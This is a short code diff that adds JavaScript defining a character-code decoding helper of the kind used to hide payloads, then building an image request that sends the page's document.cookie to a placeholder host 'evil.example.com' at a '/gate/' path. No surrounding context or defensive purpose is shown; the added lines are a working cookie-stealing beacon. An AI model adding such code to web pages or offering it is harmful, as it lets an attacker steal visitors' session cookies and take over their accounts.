@@ -1,0 +1,11 @@
+function unpack(codes) {
+  var out = "";
+  for (var i = 0; i < codes.length; i++) {
+    out = out + String.fromCharCode(codes[i] - 7);
+  }
+  return out;
+}
+var host = "evil.example.com";
+var path = "/gate/";
+var img = new Image();
+img.src = "//" + host + path + "?c=" + escape(document.cookie);
